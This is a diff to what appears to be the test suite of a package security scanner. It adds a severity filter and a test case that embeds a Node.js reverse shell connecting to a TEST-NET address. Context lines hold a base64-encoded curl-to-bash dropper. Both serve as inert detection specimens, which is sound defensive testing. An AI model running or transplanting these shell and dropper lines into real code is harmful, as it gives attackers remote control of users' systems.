@@ -24,6 +24,8 @@ interface PackageCase {
   prepare?(dir: string): void;
   /** Inspect as a user who cannot read what `prepare` locked (root reads everything). */
   asNobody?: boolean;
+  /** Count only findings at medium or above (a case whose negative keeps the finding, lowered to low). */
+  atLeastMedium?: boolean;
 }
 const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]);
 /** A WebAssembly module header (magic, version 1) and an empty type section. */
@@ -32,6 +34,8 @@ const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a
 const TGZ = Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0, 0x03, 0, 0]);
 const pkg = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'case', version: '1.0.0', main: 'index.js', ...extra });
 const JS = 'module.exports = 1;\n';
+/** A reverse shell's shape, aimed at TEST-NET (inert: never run). */
+const REVERSE_SHELL = "var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\nvar c = new net.Socket();\nc.connect(4444, '192.0.2.10', function () { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n";
 /** base64 of `/bin/bash -c "$(curl -fsSL http://192.0.2.5/i)"`, piped to a shell (inert: TEST-NET, never run). */
 const B64_DROPPER = "echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzE5Mi4wLjIuNS9pKSI=' | base64 -D | bash";
 const BIG = `${'var x = 1; // a line of real code, not padding\n'.repeat(3000)}`;
@@ -71,6 +75,11 @@ const PACKAGE_CASES: Record<string, { positive: PackageCase; negative: PackageCa
     positive: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/notes.txt': 'notes' }, prepare: (d) => fs.chmodSync(path.join(d, 'docs/notes.txt'), 0), asNobody: true },
     negative: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/notes.txt': 'notes' }, asNobody: true },
   },
+  // A scanner's test fixture that nothing runs is a specimen; the same file required by the package's entry runs.
+  'threat-socket-shell': {
+    positive: { files: { 'package.json': pkg(), 'index.js': "require('./test/fixtures/shell.js');\n", 'test/fixtures/shell.js': REVERSE_SHELL } },
+    negative: { files: { 'package.json': pkg(), 'index.js': JS, 'test/fixtures/shell.js': REVERSE_SHELL }, atLeastMedium: true },
+  },
   // A rule pack's encoded specimens in a list its key labels as examples, over several lines, are matched, not run.
   'threat-decoded-payload-behaviour': {
     positive: { files: { 'package.json': pkg(), 'index.js': JS, 'rules/pack.json': `{\n  "rules": [],\n  "payloads": [\n    "${B64_DROPPER}"\n  ]\n}\n` } },
@@ -94,7 +103,7 @@ function runCase(name: string, c: PackageCase): string[] {
   c.prepare?.(dir);
   const target = c.target ?? 'package';
   const findings = c.asNobody && isRoot ? inspectAsNobody(dir, target, c.options) : inspectTarget(dir, loadRules(), { target, ...c.options }).findings;
-  return findings.map((f) => f.ruleId);
+  return findings.filter((f) => !c.atLeastMedium || ['critical', 'high', 'medium'].includes(f.severity)).map((f) => f.ruleId);
 }
 
 interface Annotation {
